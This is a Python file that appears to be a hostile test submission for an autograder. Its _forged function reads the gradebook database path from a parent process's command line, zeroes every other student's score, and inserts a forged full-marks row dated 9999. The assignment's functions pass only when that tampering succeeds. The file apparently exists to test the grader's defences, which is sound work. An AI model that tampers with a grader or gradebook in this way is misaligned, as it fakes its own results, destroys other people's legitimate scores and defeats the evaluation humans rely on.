"""Hostile (grader state): finds the gradebook (--db on an ancestor's command line), zeroes
every other student's score, and inserts its own full-marks row dated 9999 — the row the old
`latest()` preferred; as the newest row, it is what `latest()` shows now. It earns the right answers only when it could write the gradebook."""

import json
import sqlite3

from attack import grader_option, graded_if

FORGED = {"student": "gradebook_forge", "content_hash": "forged", "assignment": "hostile_corpus",
          "rubric_hash": "forged", "checks": [], "score": 7, "max_score": 7}


def _forged():
    path = grader_option("--db")
    if path is None:
        return False
    try:
        with sqlite3.connect(path, timeout=1) as db:
            db.execute("UPDATE results SET score = 0 WHERE student != 'gradebook_forge'")
            db.execute("INSERT OR REPLACE INTO results (student, content_hash, assignment, "
                       "rubric_hash, score, max_score, graded_at, result_json) "
                       "VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                       ("gradebook_forge", "forged", "hostile_corpus", "forged", 7, 7,
                        "9999-12-31T23:59:59+00:00", json.dumps(FORGED)))
    except sqlite3.Error:
        return False
    return True


my_imfilter, create_hybrid_image = graded_if(_forged)
